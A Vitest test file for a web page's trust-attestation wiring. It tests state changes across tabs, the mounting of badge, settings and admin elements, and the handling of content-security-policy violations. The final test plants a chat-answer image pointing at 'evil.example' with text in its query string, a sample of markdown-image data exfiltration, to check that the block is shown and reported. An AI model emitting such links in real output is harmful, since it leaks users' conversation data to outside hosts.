// @vitest-environment jsdom
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type * as Page from '../src/page';
import { MEMORY_KEY, STORAGE_KEY } from '../src/session/settings';

let page: typeof Page;
const request = vi.spyOn(globalThis, 'fetch');

beforeAll(async () => {
	localStorage.setItem(STORAGE_KEY, '{"v":1,"enabled":false}');
	page = await import('../src/page');
});
afterEach(() => {
	document.body.replaceChildren();
	expect(request).not.toHaveBeenCalled();
});

const place = () => document.body.appendChild(document.createElement('div'));

describe('the page’s own wiring', () => {
	it('asks for nothing while attestation is off, and follows browser and other tabs', () => {
		const state = () => page.session.state.get();
		const leave = page.session.attach();
		page.openChat('a');
		dispatchEvent(new Event('online'));
		expect(state()).toEqual({ kind: 'off' });
		// Another tab turns it on: now it begins.
		localStorage.setItem(STORAGE_KEY, '{"v":1,"enabled":true}');
		dispatchEvent(new StorageEvent('storage', { key: STORAGE_KEY }));
		expect(state()).toEqual({ kind: 'pending' });
		dispatchEvent(new Event('offline'));
		expect(state()).toMatchObject({ kind: 'done', verdict: { status: 'red' } });
		// Another tab accepts measurements: what this one shows may not know of it.
		dispatchEvent(new StorageEvent('storage', { key: 'somebody else’s' }));
		expect(state().kind).toBe('done');
		dispatchEvent(new StorageEvent('storage', { key: MEMORY_KEY }));
		expect(state()).toEqual({ kind: 'pending' });
		dispatchEvent(new Event('offline'));
		leave();
	});

	it('puts badge and settings into their places, once', async () => {
		const [one, other] = [place(), place()];
		page.mount(one, 'badge');
		page.mount(other, 'settings');
		const badge = one.firstElementChild;
		expect([badge?.localName, other.firstElementChild?.localName]).toEqual([
			'cczoo-trust-badge',
			'cczoo-trust-settings'
		]);
		page.mount(one, 'badge');
		expect(one.firstElementChild).toBe(badge);
		await (badge as unknown as { updateComplete: Promise<unknown> }).updateComplete;
		expect(badge?.shadowRoot?.querySelector('[data-testid=tee-badge]')).not.toBeNull();
	});

	it('brings the administrators’ form where its place shows, once', async () => {
		const one = place();
		page.mount(one, 'admin');
		page.mount(one, 'admin');
		await vi.waitFor(() => {
			expect(one.firstElementChild?.localName).toBe('cczoo-trust-admin');
		});
		const form = one.firstElementChild;
		page.mount(one, 'admin');
		await Promise.resolve();
		expect([...one.children]).toEqual([form]);
		const copy = one.cloneNode(true) as HTMLElement;
		document.body.append(copy);
		const empty = copy.firstElementChild;
		page.mount(copy, 'admin');
		await vi.waitFor(() => {
			expect(copy.firstElementChild?.localName).toBe('cczoo-trust-admin');
		});
		expect(copy.firstElementChild).not.toBe(empty);
	});

	it('fills a copy of a place, in which an element without parts stands', () => {
		const one = place();
		page.mount(one, 'badge');
		const copy = one.cloneNode(true) as HTMLElement;
		document.body.append(copy);
		const empty = copy.firstElementChild;
		page.mount(copy, 'badge');
		expect(copy.children).toHaveLength(1);
		expect(copy.firstElementChild).not.toBe(empty);
	});

	it('offers the settings in the panel when it is told to', async () => {
		const one = place();
		page.mount(one, 'badge');
		page.offerSettings();
		const badge = one.firstElementChild as unknown as { updateComplete: Promise<unknown> };
		const find = (id: string) =>
			one.firstElementChild?.shadowRoot?.querySelector<HTMLElement>(`[data-testid=tee-${id}]`);
		await badge.updateComplete;
		find('badge')?.click();
		await badge.updateComplete;
		expect(find('open-settings')?.textContent).toContain('Settings');
	});

	it('shows an outside image that the policy blocked, and tells the server of other things', async () => {
		request.mockResolvedValueOnce(new Response(null, { status: 204 }));
		const answer = document.body.appendChild(document.createElement('div'));
		answer.className = 'markdown-prose';
		const image = answer.appendChild(document.createElement('img'));
		image.src = 'https://evil.example/?q=words';
		const violate = (effectiveDirective: string) => {
			const blockedURI = image.src;
			const violation = { effectiveDirective, blockedURI, disposition: 'enforce' };
			page.blocked(violation as SecurityPolicyViolationEvent);
		};
		violate('img-src');
		const cover = image.nextElementSibling as unknown as { updateComplete: Promise<unknown> };
		await cover.updateComplete;
		expect(image.nextElementSibling?.shadowRoot?.textContent).toContain('evil.example');
		expect(request).not.toHaveBeenCalled();
		violate('connect-src');
		const [[address, options] = []] = request.mock.calls;
		expect(address).toMatch(/\/tee\/report$/);
		expect(options?.body).toBe(
			'{"v":1,"blocked":{"directive":"connect-src","origin":"https://evil.example"}}'
		);
		request.mockClear();
	});
});
